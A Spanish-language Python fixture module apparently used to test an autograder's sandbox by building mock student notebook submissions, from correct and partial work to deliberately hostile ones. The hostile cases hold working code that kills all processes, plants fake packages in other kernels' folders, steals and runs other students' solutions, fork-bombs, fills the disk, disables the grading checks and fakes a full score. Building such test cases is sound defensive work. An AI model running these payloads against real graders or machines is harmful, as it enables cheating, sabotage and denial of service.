"""Clase de ejemplo fabricada con los cuadernos del curso: soluciones, trabajos parciales, errores típicos y entregas rotas u hostiles.

Sirve a ``python -m autograder demo`` y a las pruebas. Cada entrega parte del cuaderno publicado
(``release/``) y, según el caso, copia el código de la solución (``source/``) sin los
delimitadores de nbgrader. :func:`fabricar_clase` devuelve ``{estudiante: (nombre_de_archivo, bytes)}``.
"""

from __future__ import annotations

import copy
from pathlib import Path

import nbformat

from .curso import meta_nbgrader

__all__ = ["CASOS_HOSTILES", "CASOS_ATAQUE", "ERRORES_TIPICOS", "fabricar_clase", "cuaderno_resuelto", "descripcion", "nombre_visible"]

#: Errores típicos que se prueban, en orden, sobre las celdas de solución (el primero que aplique).
ERRORES_TIPICOS = [
    ("np.concatenate([h_prev, x_t], axis=0)", "np.concatenate([x_t, h_prev], axis=0)", "[x; h] en lugar de [h; x]"),
    ("np.tanh(", "(lambda z: 1 / (1 + np.exp(-z)))(", "sigmoide en lugar de tanh"),
    ("sigmoide(", "np.tanh(", "tanh en lugar de sigmoide"),
    (" + b)", ")", "sin sesgo"),
]

#: Entregas problemáticas: nombre del estudiante → qué tiene.
CASOS_HOSTILES = {
    "json_corrupto": "archivo JSON truncado",
    "archivo_vacio": "archivo vacío",
    "nombre_equivocado": "solución con otro nombre de archivo",
    "prueba_borrada": "solución sin la primera celda de prueba",
    "prueba_editada": "primer ejercicio sin resolver y su prueba reemplazada por «pass»",
    "prueba_markdown": "solución con la segunda prueba convertida en markdown",
    "id_duplicado": "solución con una celda de solución y una de prueba copiadas (grade_id repetido)",
    "id_renombrado": "solución con el grade_id de la primera prueba renombrado",
    "excepcion_temprana": "excepción al inicio de la primera celda de solución",
    "ciclo_infinito": "ciclo infinito en la segunda celda de solución",
    "impresion_sin_fin": "imprime sin parar en la primera celda de solución",
    "bomba_memoria": "agota la memoria en la tercera celda de solución",
    "os_exit": "os._exit en la segunda celda de solución",
    "advertencia": "solución correcta que emite una advertencia por stderr",
    "manipulacion": "primer ejercicio devuelve None, anula las funciones de prueba, escribe fuera y usa la red",
    "nota_fingida": "primer ejercicio mal resuelto que publica su puntaje máximo como resultado (crédito parcial de nbgrader)",
}


#: Ataques a la caja del núcleo (no entran en la clase por omisión: se piden por nombre). Cada
#: proceso que dejan vivo lleva la marca ``{marca}`` en su línea de órdenes, para buscarlo después.
CASOS_ATAQUE = {
    "asesino": "solución que antes mata, durante unos segundos, todo proceso que ve",
    "asesino_desprendido": "solución que deja un demonio (setsid) que mata todo proceso que ve durante un minuto",
    "sembrador": "solución que deja un demonio (setsid) que escribe un paquete course/ en las carpetas de otros núcleos",
    "ladron_disco": "en blanco; ejecuta las soluciones que encuentre en el disco (copias de otros trabajadores, su carpeta)",
    "ladron_git": "en blanco; ejecuta las soluciones de «git show HEAD:source/…» del repositorio del paquete course",
    "bomba_procesos": "solución que antes intenta lanzar 300 procesos",
    "disco_lleno": "solución que antes intenta escribir 2 GiB en su carpeta",
}

_MATAR = """
import os, signal, time
fin = time.time() + {segundos}
respetar = {{os.getpid(), os.getppid()}} if {respetar} else {{os.getpid()}}
while time.time() < fin:
    for p in os.listdir('/proc'):
        if p.isdigit() and int(p) not in respetar:
            try:
                os.kill(int(p), signal.SIGKILL)
            except OSError:
                pass
    time.sleep(0.02)
"""

_SEMBRAR = """
import glob, os, time
fin = time.time() + 60
falso = "raise ImportError('paquete sembrado por otro estudiante')\n"
while time.time() < fin:
    destinos = set()
    for raiz in glob.glob('/proc/[0-9]*/root') + glob.glob('/proc/[0-9]*/cwd') + ['/']:
        destinos |= {{raiz, raiz + '/trabajo', raiz + '/tmp'}}
    destinos |= set(glob.glob('/tmp/*')) | set(glob.glob('/tmp/*/*')) | set(glob.glob('/tmp/calificador-*/t*/*'))
    for destino in destinos:
        try:
            os.makedirs(destino + '/course', exist_ok=True)
            with open(destino + '/course/__init__.py', 'w') as f:
                f.write(falso)
        except OSError:
            pass
    time.sleep(0.1)
"""

_DEMONIO = """
import subprocess, sys
subprocess.Popen([sys.executable, '-c', {codigo!r} + '# {marca}'], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print('demonio lanzado')
"""

_ROBAR = """
import glob, json, os, pathlib, subprocess, time
def _soluciones_de(texto, clave):
    nb = json.loads(texto)
    if clave not in texto:
        return []
    return [''.join(c['source']) for c in nb['cells'] if 'BEGIN SOLUTION' in ''.join(c['source'])]
def _robar():
    robadas = []
    if {metodo!r} == 'git':
        import course
        raiz = pathlib.Path(course.__file__).resolve().parents[1]
        for ruta in ['source/{asignacion}/{asignacion}.ipynb']:
            r = subprocess.run(['git', '-C', str(raiz), 'show', 'HEAD:' + ruta], capture_output=True, text=True)
            if r.returncode == 0:
                robadas += _soluciones_de(r.stdout, {clave!r})
    else:
        import course
        raices = [os.getcwd(), os.path.dirname(os.getcwd()), str(pathlib.Path(course.__file__).resolve().parents[1]),
                  *glob.glob('/tmp/calificador-*'), '/work', '/root', '/home', '/srv', '/tmp']
        fin = time.time() + 3
        for raiz in raices:
            for actual, carpetas, archivos in os.walk(raiz):
                if time.time() > fin or robadas:
                    break
                carpetas[:] = [c for c in carpetas if c not in ('.venv', 'node_modules', 'proc')]
                for nombre in archivos:
                    if nombre.lower().endswith('.ipynb'):
                        try:
                            robadas += _soluciones_de(open(os.path.join(actual, nombre), encoding='utf-8').read(), {clave!r})
                        except (OSError, ValueError, KeyError):
                            pass
    for fuente in robadas:
        try:
            exec(fuente, globals())
        except Exception:
            pass
    return len(robadas)
print('soluciones robadas:', _robar())
"""

_PROCESOS = """
import os, time
hijos = 0
try:
    for _ in range(300):
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        hijos += 1
except OSError as error:
    print('procesos detenidos:', type(error).__name__)
print('procesos lanzados:', hijos)
"""

_DISCO = """
escritos = 0
try:
    with open('relleno.bin', 'wb') as f:
        bloque = b'0' * 2**20
        for _ in range(2048):
            f.write(bloque)
            escritos += 1
except OSError as error:
    print('disco detenido:', type(error).__name__)
print('MiB escritos:', escritos)
"""


def _ataque(caso: str, raiz: Path, asignacion: str, marca: str) -> tuple[str, bytes]:
    nombre = f"{asignacion}.ipynb"
    if caso.startswith("ladron_"):
        nb = cuaderno_resuelto(raiz, asignacion, cuantos=0)
        soluciones = _celdas(nb, "solution")
        clave = meta_nbgrader(soluciones[0])["grade_id"]  # el estudiante lo ve en su cuaderno
        codigo = _ROBAR.format(metodo=caso.removeprefix("ladron_"), asignacion=asignacion, clave=clave)
        nb.cells.insert(nb.cells.index(soluciones[0]), nbformat.v4.new_code_cell(codigo))
        for celda in soluciones:  # tras el esqueleto de cada ejercicio, otra vez las funciones robadas
            celda.source += "\n_robar()"
        return nombre, _bytes(nb)
    nb = cuaderno_resuelto(raiz, asignacion)
    primera = _celdas(nb, "solution")[0]
    codigo = {
        "asesino": _MATAR.format(segundos=3, respetar=False),
        "asesino_desprendido": _DEMONIO.format(codigo=_MATAR.format(segundos=60, respetar=True), marca=marca),
        "sembrador": _DEMONIO.format(codigo=_SEMBRAR.format(), marca=marca),
        "bomba_procesos": _PROCESOS,
        "disco_lleno": _DISCO,
    }[caso]
    nb.cells.insert(nb.cells.index(primera), nbformat.v4.new_code_cell(codigo))
    return nombre, _bytes(nb)


def _sin_delimitadores(fuente: str) -> str:
    return "\n".join(l for l in fuente.splitlines() if "BEGIN SOLUTION" not in l and "END SOLUTION" not in l)


def _celdas(nb, tipo: str) -> list:
    return [c for c in nb.cells if meta_nbgrader(c).get(tipo)]


def cuaderno_resuelto(raiz: Path, asignacion: str, nombre: str | None = None, cuantos: int | None = None):
    """El cuaderno publicado con las primeras ``cuantos`` soluciones copiadas de ``source/`` (todas si None)."""
    nombre = nombre or asignacion
    publicado = nbformat.read(str(Path(raiz) / "release" / asignacion / f"{nombre}.ipynb"), as_version=4)
    fuente = nbformat.read(str(Path(raiz) / "source" / asignacion / f"{nombre}.ipynb"), as_version=4)
    soluciones = {meta_nbgrader(c)["grade_id"]: c.source for c in fuente.cells if meta_nbgrader(c).get("solution")}
    for numero, celda in enumerate(_celdas(publicado, "solution")):
        if cuantos is None or numero < cuantos:
            celda.source = _sin_delimitadores(soluciones[meta_nbgrader(celda)["grade_id"]])
    return publicado


def _bytes(nb) -> bytes:
    return nbformat.writes(nb).encode("utf-8")


def _anteponer(celda, codigo: str) -> None:
    celda.source = codigo + "\n" + celda.source


def _hostil(caso: str, raiz: Path, asignacion: str) -> tuple[str, bytes]:
    nombre = f"{asignacion}.ipynb"
    nb = cuaderno_resuelto(raiz, asignacion)
    soluciones, pruebas = _celdas(nb, "solution"), _celdas(nb, "grade")
    sol = lambda i: soluciones[min(i, len(soluciones) - 1)]  # noqa: E731
    prueba = lambda i: pruebas[min(i, len(pruebas) - 1)]  # noqa: E731
    if caso == "json_corrupto":
        return nombre, _bytes(nb)[: len(_bytes(nb)) // 2]
    if caso == "archivo_vacio":
        return nombre, b""
    if caso == "nombre_equivocado":
        return f"Copia de {asignacion} (2).ipynb", _bytes(nb)
    if caso == "prueba_borrada":
        nb.cells.remove(prueba(0))
    elif caso == "prueba_editada":
        en_blanco = cuaderno_resuelto(raiz, asignacion, cuantos=0)
        sol(0).source = _celdas(en_blanco, "solution")[0].source
        prueba(0).source = "pass"
    elif caso == "prueba_markdown":
        prueba(1).cell_type = "markdown"
        prueba(1).pop("outputs", None)
        prueba(1).pop("execution_count", None)
    elif caso == "id_duplicado":
        for original in (sol(0), prueba(0)):
            copia = copy.deepcopy(original)
            copia["id"] = original["id"] + "-copia"
            nb.cells.insert(nb.cells.index(original) + 1, copia)
    elif caso == "id_renombrado":
        prueba(0).metadata["nbgrader"]["grade_id"] = "mi_prueba"
    elif caso == "excepcion_temprana":
        _anteponer(sol(0), 'raise RuntimeError("todavía no termino")')
    elif caso == "ciclo_infinito":
        _anteponer(sol(1), "while True:\n    pass")
    elif caso == "impresion_sin_fin":
        _anteponer(sol(0), 'while True:\n    print("¡hola! " * 50)')
    elif caso == "bomba_memoria":
        _anteponer(sol(2), "bloques = []\nwhile True:\n    bloques.append(bytearray(50_000_000))")
    elif caso == "os_exit":
        _anteponer(sol(1), "import os\nos._exit(3)")
    elif caso == "advertencia":
        # La advertencia sale en stderr cuando la prueba llama a la función.
        linea = sol(0).source.index("\n", sol(0).source.index("def ")) + 1
        sol(0).source = (sol(0).source[:linea] + '    import warnings\n    warnings.warn("revisa las formas", UserWarning)\n'
                         + sol(0).source[linea:])
    elif caso == "manipulacion":
        # Una función que devuelve basura: solo pasaría si las comprobaciones se anularan.
        linea = sol(0).source.index("\n", sol(0).source.index("def ")) + 1
        sol(0).source = sol(0).source[:linea] + "    return None\n" + sol(0).source[linea:]
        trampa = nbformat.v4.new_code_cell(
            "import course.pruebas as pruebas\n"
            "pruebas.comprobar_cercano = lambda *a, **k: None\n"
            "pruebas.comprobar_forma = lambda *a, **k: None\n"
            "comprobar_cercano = lambda *a, **k: None\n"
            "comprobar_forma = lambda *a, **k: None\n"
            "for ruta in ['/tmp/calificador_hackeo.txt', '../../../../gradebook_hackeo.txt']:\n"
            "    try:\n"
            "        open(ruta, 'w').write('hackeo')\n"
            "    except OSError as error:\n"
            "        print('escritura bloqueada:', type(error).__name__)\n"
            "import socket\n"
            "try:\n"
            "    socket.create_connection(('1.1.1.1', 53), timeout=2)\n"
            "    print('red: disponible')\n"
            "except OSError as error:\n"
            "    print('red: bloqueada', error)\n"
            "import pathlib\n"
            "raiz = pathlib.Path(pruebas.__file__).resolve().parents[1]\n"
            "print('fuentes visibles:', len(list((raiz / 'source').glob('*/*.ipynb'))))\n"
            "tam = [q.joinpath('gradebook.db').stat().st_size for q in pathlib.Path.cwd().parents if q.joinpath('gradebook.db').exists()]\n"
            "print('gradebook legible:', sum(tam))\n"
        )
        nb.cells.insert(nb.cells.index(sol(0)) + 1, trampa)
    elif caso == "nota_fingida":
        # Antes de devolver basura, la función publica un número como resultado de la celda que la llama:
        # nbgrader lo tomaría como crédito parcial de la celda de prueba.
        linea = sol(0).source.index("\n", sol(0).source.index("def ")) + 1
        sol(0).source = (sol(0).source[:linea] + "    get_ipython().displayhook(1.0)\n    return None\n"
                         + sol(0).source[linea:])
    else:
        raise ValueError(f"caso desconocido: {caso}")
    return nombre, _bytes(nb)


def _error_tipico(raiz: Path, asignacion: str):
    nb = cuaderno_resuelto(raiz, asignacion)
    for buscar, reemplazar, descripcion in ERRORES_TIPICOS:
        for celda in _celdas(nb, "solution"):
            if buscar in celda.source:
                celda.source = celda.source.replace(buscar, reemplazar, 1)
                return descripcion, nb
    return None, None


def fabricar_clase(raiz: Path, asignacion: str, casos: list[str] | None = None,
                   marca: str = "ataque-calificador") -> dict[str, tuple[str, bytes]]:
    """Entregas de una clase de ejemplo: ``{estudiante: (nombre de archivo, contenido)}``.

    Sin ``casos``, todas: solución completa, en blanco, trabajo parcial, un error típico y cada
    caso de :data:`CASOS_HOSTILES`. Los de :data:`CASOS_ATAQUE` se piden por nombre; ``marca``
    queda en la línea de órdenes de los procesos que dejan.
    """
    raiz = Path(raiz)
    nombre = f"{asignacion}.ipynb"
    todos = ["solucion_completa", "en_blanco", "trabajo_parcial", "error_tipico", *CASOS_HOSTILES]
    clase = {}
    for caso in casos or todos:
        if caso == "solucion_completa":
            clase[caso] = (nombre, _bytes(cuaderno_resuelto(raiz, asignacion)))
        elif caso == "en_blanco":
            clase[caso] = (nombre, (raiz / "release" / asignacion / nombre).read_bytes())
        elif caso == "trabajo_parcial":
            total = len(_celdas(cuaderno_resuelto(raiz, asignacion), "solution"))
            clase[caso] = (nombre, _bytes(cuaderno_resuelto(raiz, asignacion, cuantos=max(1, total // 2))))
        elif caso == "error_tipico":
            _, nb = _error_tipico(raiz, asignacion)
            if nb is not None:
                clase[caso] = (nombre, _bytes(nb))
        elif caso in CASOS_ATAQUE:
            clase[caso] = _ataque(caso, raiz, asignacion, marca)
        else:
            clase[caso] = _hostil(caso, raiz, asignacion)
    return clase


def descripcion(caso: str) -> str:
    """Frase corta que describe un caso de la clase de ejemplo."""
    fijas = {"solucion_completa": "todo resuelto", "en_blanco": "nada resuelto", "trabajo_parcial": "la mitad resuelta",
             "error_tipico": "un error típico"}
    return fijas.get(caso) or CASOS_HOSTILES.get(caso) or CASOS_ATAQUE.get(caso, caso)


_NOMBRES = {"solucion_completa": "Solución Completa", "error_tipico": "Error Típico", "json_corrupto": "JSON Corrupto",
            "archivo_vacio": "Archivo Vacío", "id_duplicado": "ID Duplicado", "id_renombrado": "ID Renombrado",
            "excepcion_temprana": "Excepción Temprana", "impresion_sin_fin": "Impresión Sin Fin", "os_exit": "OS Exit",
            "manipulacion": "Manipulación", "nota_fingida": "Nota Fingida"}


def nombre_visible(caso: str) -> str:
    """Nombre del «estudiante» de un caso tal como aparece en el LMS (con acentos; su id ASCII es el caso)."""
    return _NOMBRES.get(caso) or caso.replace("_", " ").title()
